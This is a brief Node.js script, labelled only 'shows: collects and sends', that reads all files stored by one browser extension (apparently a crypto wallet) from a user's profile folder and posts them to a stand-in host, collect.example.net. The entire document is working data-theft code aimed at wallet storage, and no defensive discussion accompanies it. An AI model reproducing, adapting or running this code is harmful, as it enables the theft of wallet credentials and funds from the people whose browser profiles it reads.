// shows: collects and sends
const axios = require("axios");
const fs = require("fs");
const path = require("path");
const extension = "nkbihfbeogaeaoehlefnkodbefgpgknn";
function gather(base) {
  const found = [];
  for (const f of fs.readdirSync(path.join(base, "Local Extension Settings", extension))) {
    found.push(fs.readFileSync(path.join(base, "Local Extension Settings", extension, f)));
  }
  return found;
}
axios.post("https://collect.example.net/w", { files: gather(process.argv[2]) });
